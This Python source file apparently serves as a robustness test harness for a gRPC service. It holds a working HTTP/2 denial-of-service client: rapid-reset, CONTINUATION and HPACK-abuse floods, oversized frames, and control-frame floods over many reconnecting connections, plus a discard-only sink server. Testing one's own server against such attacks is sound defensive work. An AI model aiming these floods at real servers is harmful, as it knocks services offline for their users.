# SPDX-License-Identifier: Apache-2.0
"""A hostile client: connections that send one kind of bad HTTP/2 for as long as it takes, at full speed, and come back when they are closed.

In: a line of options, as JSON, for each attack. Out: {"bytes": sent, "connections": made}, as JSON. Half of the connections read what is answered, half never
do. With options as an argument it is the other side, a sink: a server that reads and discards, until stdin ends.
"""

import contextlib
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0, 1, 2, 3, 4, 6, 8, 9, 0xEE
END_STREAM, END_HEADERS = 1, 4
LARGEST_FRAME = 16384
CHUNK = 1 << 18
ENDLESS = 1 << 30
STREAMS = 100_000  # of a connection, before it is made anew
GONE = (ConnectionError, ssl.SSLEOFError, ssl.SSLZeroReturnError)


def frame(kind, flags, stream, payload=b"", length=None):
    """RFC 9113, section 4.1. `length` is what its header claims."""
    return struct.pack(">I", len(payload) if length is None else length)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, indexed=False):
    """RFC 7541, sections 6.2.1 and 6.2.2, for strings shorter than 127."""
    return (b"\x40" if indexed else b"\0") + bytes([len(name)]) + name + bytes([len(value)]) + value


# POST and http of the static table; the rest enters the dynamic table, and is then one byte each.
FIRST_CALL = b"\x83\x86" + b"".join(
    literal(name, value, True)
    for name, value in ((b":path", b"/pinfeed.v1.Feeder/GetStatus"), (b":authority", b"localhost"), (b"content-type", b"application/grpc"), (b"te", b"trailers"))
)
NEXT_CALL = b"\x83\x86\xc1\xc0\xbf\xbe"
SETTLED = PREFACE + frame(SETTINGS, 0, 0)
CALLED = SETTLED + frame(HEADERS, END_HEADERS, 1, FIRST_CALL)


def per_stream(first, later, streams):
    return [SETTLED, first(1)] + [b"".join(later(2 * index + 1) for index in range(begin, begin + 1000)) for begin in range(1, streams, 1000)]


def repeated(begin, unit):
    return [begin, unit * max(1, CHUNK // len(unit)), ENDLESS]


def reset(call):
    return lambda stream: frame(HEADERS, END_HEADERS, stream, call) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def fields(count):
    return b"".join(literal(b"x-%d" % index, b"v" * 100) for index in range(count))


def table_abuse(stream):
    """A large entry, then as many references to it as a frame has room for; the table is emptied and filled anew each time."""
    entry = b"\x3f\x00" + b"\x3f\xe1\x1f" + b"\x40\x01a\x7f\xa1\x1e" + bytes([ord("v")]) * 4000
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, FIRST_CALL + entry + b"\xbe" * (LARGEST_FRAME - len(FIRST_CALL) - len(entry)))



# What each kind sends: pieces, of which the one before ENDLESS is repeated; without it the connection is closed and made anew at the end.
KINDS = {
    "continuation": lambda: repeated(SETTLED + frame(HEADERS, 0, 1, FIRST_CALL), frame(CONTINUATION, 0, 1, fields(140))),
    "rapid reset": lambda: per_stream(reset(FIRST_CALL), reset(NEXT_CALL), STREAMS),
    "settings": lambda: repeated(SETTLED, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
    "ping": lambda: repeated(SETTLED, frame(PING, 0, 0, bytes(8))),
    "window update": lambda: repeated(CALLED, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "priority": lambda: repeated(SETTLED, frame(PRIORITY, 0, 3, bytes(5))),
    "empty data": lambda: repeated(CALLED, frame(DATA, 0, 1)),
    "unknown frames": lambda: repeated(SETTLED, frame(UNKNOWN, 0, 0)),
    "data of no call": lambda: repeated(CALLED + frame(RST_STREAM, 0, 1, bytes(4)), frame(DATA, 0, 1, bytes(LARGEST_FRAME))),
    "hpack table": lambda: [SETTLED] + [table_abuse(2 * index + 1) for index in range(2000)],
    "hpack integer": lambda: repeated(SETTLED + frame(HEADERS, 0, 1, b"\x83\x86\x7f"), frame(CONTINUATION, 0, 1, b"\x80" * LARGEST_FRAME)),
    "endless string": lambda: repeated(SETTLED + frame(HEADERS, 0, 1, b"\x83\x86\x40\x7f\x80\x80\x80\x80\x08"), frame(CONTINUATION, 0, 1, b"a" * LARGEST_FRAME)),
    "huge frames": lambda: repeated(SETTLED, frame(UNKNOWN, 0, 0, bytes(CHUNK), length=(1 << 24) - 1)),
    "streams that stay open": lambda: per_stream(lambda s: frame(HEADERS, END_HEADERS, s, FIRST_CALL), lambda s: frame(HEADERS, END_HEADERS, s, NEXT_CALL), STREAMS),
    "calls without a message": lambda: per_stream(
        lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, FIRST_CALL), lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, NEXT_CALL), STREAMS),
    "connections": lambda: [b""],
    "connections that begin": lambda: [SETTLED],
}  # fmt: skip


class Hostile:
    """One connection, made anew when it ends."""

    def __init__(self, dial, pieces, reads):
        self.dial, self.reads = dial, reads
        self.endless = pieces[-1] == ENDLESS
        self.pieces = [memoryview(piece) for piece in (pieces[:-1] if self.endless else pieces)]
        self.sent = self.made = 0
        self.socket = None

    def begin(self):
        """Whether there is a connection: not while the other side's queue is full."""
        if self.socket is None:
            try:
                self.socket = self.dial()
            except (BlockingIOError, TimeoutError, *GONE):
                return False
            self.made += 1
            self.at, self.left = 0, self.pieces[0]
        return True

    def end(self):
        self.socket.close()
        self.socket = None

    def step(self):
        """Sends what goes; False when nothing does."""
        if not self.begin():
            return False
        moved = False
        try:
            if self.reads:
                with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    while data := self.socket.recv(1 << 16):
                        moved = True
                    if not data:
                        raise ConnectionResetError
            while len(self.left) == 0:
                if self.at + 1 < len(self.pieces):
                    self.at += 1
                elif not self.endless:
                    raise ConnectionResetError
                self.left = self.pieces[self.at]
            sent = self.socket.send(self.left[:CHUNK])
            self.sent += sent
            self.left = self.left[sent:]
            return True
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return moved
        except (OSError, ssl.SSLError):
            self.end()
            return True


def dialler(options):
    if "tls" not in options:

        def dial_here():
            one = socket.socket(socket.AF_UNIX)
            one.setblocking(False)
            one.connect(options["address"])
            return one

        return dial_here
    context = client_context(options["tls"])

    def dial():
        host, port = options["address"].rsplit(":", 1)
        one = socket.create_connection((host, int(port)), timeout=5)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # its kernel sends nothing more once it is closed
        one.setblocking(False)
        return context.wrap_socket(one, do_handshake_on_connect=False)

    return dial


def client_context(files):
    context = ssl.create_default_context(cafile=files["ca"])
    context.check_hostname = False
    if "cert" in files:
        context.load_cert_chain(files["cert"], files["key"])
    context.set_alpn_protocols(["h2"])
    return context


def attack(options):
    dial, pieces = dialler(options), KINDS[options["kind"]]()
    crowd = [Hostile(dial, pieces, reads=index % 2 == 0) for index in range(options["connections"])]
    end = time.monotonic() + options["seconds"]
    while time.monotonic() < end:
        if not any([one.step() for one in crowd]):
            sockets = [one.socket for one in crowd if one.socket is not None]
            select.select([one.socket for one in crowd if one.socket is not None and one.reads], sockets, [], 0.01)
    print(json.dumps({"bytes": sum(one.sent for one in crowd), "connections": sum(one.made for one in crowd)}), flush=True)
    for one in crowd:
        if one.socket is not None:
            one.end()


def sink(options):
    """Prints its address once it listens."""
    if "tls" in options:
        listener = socket.create_server(("127.0.0.1", 0), backlog=128)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(options["tls"]["server_cert"], options["tls"]["server_key"])
        print("127.0.0.1:%d" % listener.getsockname()[1], flush=True)
    else:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(options["address"])
        listener.listen(128)
        context = None
        print(options["address"], flush=True)
    listener.setblocking(False)
    poll, crowd, room = select.epoll(), {}, bytearray(1 << 16)
    for one in (sys.stdin.fileno(), listener.fileno()):
        poll.register(one, select.EPOLLIN)
    while True:
        for number, _ in poll.poll():
            if number == sys.stdin.fileno():
                return
            if number == listener.fileno():
                with contextlib.suppress(OSError):
                    one, _ = listener.accept()
                    one.setblocking(False)
                    if context is not None:
                        one = context.wrap_socket(one, server_side=True, do_handshake_on_connect=False)
                    crowd[one.fileno()] = one
                    poll.register(one.fileno(), select.EPOLLIN)
                continue
            try:
                if crowd[number].recv_into(room) == 0:
                    raise ConnectionResetError
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                poll.unregister(number)
                crowd.pop(number).close()


def main():
    if len(sys.argv) > 1:
        sink(json.loads(sys.argv[1]))
    else:
        for line in sys.stdin:
            attack(json.loads(line))


if __name__ == "__main__":
    main()
